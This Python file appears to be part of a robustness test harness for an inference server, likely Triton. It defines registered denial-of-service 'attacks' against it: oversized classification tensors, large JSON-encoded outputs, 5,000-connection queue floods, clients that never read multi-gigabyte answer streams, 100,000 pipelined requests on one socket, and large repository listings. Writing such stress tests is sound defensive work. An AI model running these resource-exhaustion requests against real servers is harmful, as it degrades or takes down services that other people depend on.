"""HTTP requests with much behind them: classification, queues, answers that nobody reads, repository listings."""

import json
import select
import time

import models
import raw_http
from registry import attack


def binary(model, count, outputs):
    """A request with so many FP32 numbers as binary data."""
    size = 4 * count
    document = json.dumps({
        "inputs": [{"name": "INPUT0", "shape": [count], "datatype": "FP32", "parameters": {"binary_data_size": size}}],
        **outputs,
    }).encode()
    headers = {"Inference_Header_Content_Length": len(document)}
    return raw_http.post(f"/v2/models/{model}/infer", document + bytes(size), **headers)


@attack("classification-60mb", triton=True)
def classification(target):
    """ten clients that want a tensor of 60 MB classified, 15 million classes"""
    wanted = {"outputs": [{"name": "OUTPUT0", "parameters": {"classification": 15_000_000}}]}
    return target.heavy(10, binary("vector", 15_000_000, wanted))


@attack("classification-top-1", triton=True)
def classification_top_1(target):
    """ten clients that want the first class of a tensor of 60 MB"""
    wanted = {"outputs": [{"name": "OUTPUT0", "parameters": {"classification": 1}}]}
    return target.heavy(10, binary("vector", 15_000_000, wanted))


@attack("json-answers", triton=True)
def json_answers(target):
    """ten clients that want a tensor of 10 MB written in JSON"""
    wanted = {"outputs": [{"name": "OUTPUT0", "parameters": {"binary_data": False}}]}
    return target.heavy(10, binary("vector", 2_500_000, wanted))


@attack("queue-flood", triton=True)
def queue_flood(target):
    """5,000 clients wait for a slow model with 100 KB each"""
    held = raw_http.many(target.http, 5000, binary("slow", 25_000, {}), keep_trying=True)
    time.sleep(2)
    answered = [raw_http.answer(connection)[0] for connection in held if readable(connection)]
    raw_http.close(held)
    return f"{len(held)} connected; answered meanwhile: {raw_http.statuses(answered)}"


def readable(connection):
    poll = select.poll()
    poll.register(connection, select.POLLIN)
    return bool(poll.poll(0))


@attack("unread-answers-http", models=models.many_answers, loads=("many_answers",))
def unread_answers(target):
    """a stream of 2.5 GB from a decoupled model, by a client that does not read"""
    body = json.dumps({"COUNT": [2500], "SIZE": [1_000_000]}).encode()
    held = raw_http.connect(target.http, 30, receive_buffer=4096)
    held.sendall(raw_http.post("/v2/models/many_answers/generate_stream", body))
    time.sleep(8)
    held.close()
    return ""


@attack("answers-never-read", triton=True)
def never_read(target):
    """200 clients ask for 4 MB each and never read"""
    sent = binary("vector", 1_000_000, {})
    held = []
    for _ in range(200):
        connection = raw_http.connect(target.http, 5, receive_buffer=4096)
        held.append(connection)
        try:
            connection.sendall(sent)
        except OSError:
            pass
    time.sleep(4)
    raw_http.close(held)
    return f"{len(held)} clients"


@attack("pipelined", triton=True)
def pipelined(target):
    """one connection asks 100,000 times without reading an answer"""
    connection = raw_http.connect(target.http, 5, receive_buffer=4096)
    one = raw_http.head("GET", "/v2/models/simple/config")
    sent = 0
    with connection:
        try:
            for _ in range(1000):
                connection.sendall(one * 100)
                sent += 100
        except OSError:
            pass
        time.sleep(2)
    return f"{sent} taken"


@attack("repository-index", models=models.many)
def repository_index(target):
    """ten clients list a repository of 3,000 models"""
    return target.heavy(10, raw_http.post("/v2/repository/index", b"{}"))

